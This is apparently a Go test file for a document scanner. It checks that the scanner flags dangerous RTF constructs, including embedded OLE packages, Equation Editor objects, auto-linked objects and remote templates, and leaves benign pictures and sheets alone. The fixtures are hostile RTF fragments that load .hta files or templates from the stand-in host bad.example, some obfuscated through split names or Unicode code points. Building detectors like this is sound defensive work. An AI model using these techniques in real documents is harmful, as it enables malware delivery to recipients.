package files

import (
	"encoding/binary"
	"slices"
	"strings"
	"testing"
)

// ole1 is an object as RTF has it, in hexadecimal: [MS-OLEDS] 2.2.5.
func ole1(class, data string) string {
	b := []byte{1, 5, 0, 0, 2, 0, 0, 0}
	b = binary.LittleEndian.AppendUint32(b, uint32(len(class)+1))
	b = append(b, class+"\x00"...)
	b = append(b, 0, 0, 0, 0, 0, 0, 0, 0)
	b = binary.LittleEndian.AppendUint32(b, uint32(len(data)))
	return objectHex(string(b) + data)
}

// packagedRTF is a document with a file in a package, as Word writes it.
func packagedRTF(name, data string) string {
	return `{\rtf1{\object\objemb{\*\objclass Package}{\*\objdata ` + ole1("Package", native(name, data)[4:]) + `}{\result{\pict\pngblip 89504e47}}}}`
}

func TestObjectsInRTF(t *testing.T) {
	link := string(compoundFile([]byte("\x00\x03\x00\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46"), node{name: "\x01Ole", data: "x"}))
	for name, c := range map[string]struct {
		rtf      string
		kind     Kind // empty: nothing that makes a reason
		words    string
		evidence string
	}{
		"a package, cut":               {`{\rtf1{\object\objemb{\*\objclass Package}{\*\objdata 01050000020000000800}}}`, Package, "an OLE package", "Package"},
		"a package without its name":   {`{\rtf1{\object\objemb{\*\objdata ` + ole1("Package", native("run.js", "x")[4:]) + `}}}`, Package, "an OLE package", "run.js"},
		"a package in a compound file": {`{\rtf1{\object\objemb{\*\objdata ` + objectHex(string(compoundFile(nil, node{name: "\x01Ole10Native", data: native("x.zip", "PK\x05\x06"+strings.Repeat("\x00", 18))}))) + `}}}`, Package, "an OLE package", "x.zip"},
		"the Equation Editor by name":  {`{\rtf1{\object\objemb{\*\objclass Equation.3}{\*\objdata 0105}}}`, Exploit, "Equation Editor", ""},
		"the name in parts":            {`{\rtf1{\object\objemb{\*\objclass Equa{}tion.3}{\*\objdata 0105}}}`, Exploit, "Equation Editor", ""},
		"an object elsewhere":          {`{\rtf1{\object\objautlink{\*\objclass Word.Document.8}{\*\objdata ` + ole1("OLE2Link", link) + `}}}`, Exploit, "a link to an object elsewhere", ""},
		"its address":                  {`{\rtf1{\object\objlink{\*\objdata ` + ole1("Word.Document.8", "h\x00t\x00t\x00p\x00:\x00/\x00/\x00bad.example/x.hta\x00") + `}}}`, Outside, "loads an object from elsewhere", "http://bad.example/x.hta"},
		"a template":                   {`{\rtf1{\*\template http://bad.example/t.dotm}}`, Outside, "loads its template", "http://bad.example/t.dotm"},
		"a template in code points":    {`{\rtf1{\*\template \u104?\u116?\u116?\u112?\u58?\u-65489?\u47?bad.example/t}}`, Outside, "loads its template", "http://bad.example/t"},
		"a template, no substitutes":   {`{\rtf1{\*\template \uc0\u104\u116\u116\u112\u58\u47\u47 bad.example/t}}`, Outside, "loads its template", "http://bad.example/t"},
		"a template behind groups":     {`{\rtf1{\uc9\u1 }{\*\template \u104?ttp{\uc5}\u58?//bad.example/t}}`, Outside, "loads its template", "http://bad.example/t"},
		"a template on a share":        {`{\rtf1{\*\template \\\\bad.example\\t.dotm}}`, Outside, "loads its template", `\\bad.example\t.dotm`},

		"a picture":                 {`{\rtf1{\*\shppict{\pict\pngblip\picw10\pich10 89504e470d0a1a0a}}{\nonshppict{\pict\wmetafile8 0100}}}`, "", "", ""},
		"a picture as an object":    {`{\rtf1{\object\objemb{\*\objclass Word.Picture.8}{\*\objdata ` + ole1("Word.Picture.8", "x") + `}{\result{\pict\wmetafile8 0100}}}}`, "", "", ""},
		"a table of Excel":          {`{\rtf1{\object\objemb{\*\objclass Excel.Sheet.8}{\*\objdata ` + ole1("Excel.Sheet.8", string(compoundFile(nil, node{name: "Workbook", data: strings.Repeat("\x00", 5000)}))) + `}}}`, "", "", ""},
		"a photo in a package":      {packagedRTF("photo.png", "\x89PNG\r\n\x1a\n"+strings.Repeat("\x00", 40)), "", "", ""},
		"its own template":          {`{\rtf1{\*\template C:\\Users\\x\\Normal.dotm}}`, "", "", ""},
		"a description":             {`{\rtf1{\object\objemb{\*\objclass Visio.Drawing.11}{\*\objdata ` + ole1("Visio.Drawing.11", "description of the package") + `}}}`, "", "", ""},
		"words about a package":     {`{\rtf1 Package \u228? Equation.3 \\objdata}`, "", "", ""},
		"a link to a table on disk": {`{\rtf1{\object\objlink{\*\objdata ` + ole1("Excel.Sheet.8", "C:\\a.xls") + `}}}`, "", "", ""},
	} {
		r := Look("letter.doc", "application/msword", []byte(c.rtf))
		if c.kind == "" {
			if r.Worst() == Bad {
				t.Errorf("%s: %+v", name, r.Findings)
			}
			continue
		}
		if !slices.ContainsFunc(r.Findings, func(f Finding) bool {
			return f.Kind == c.kind && f.Severity == Bad && strings.Contains(f.Words, c.words) && strings.Contains(strings.Join(f.Evidence, "\n"), c.evidence)
		}) {
			t.Errorf("%s: no %s %q %q in %+v", name, c.kind, c.words, c.evidence, r.Findings)
		}
	}
}
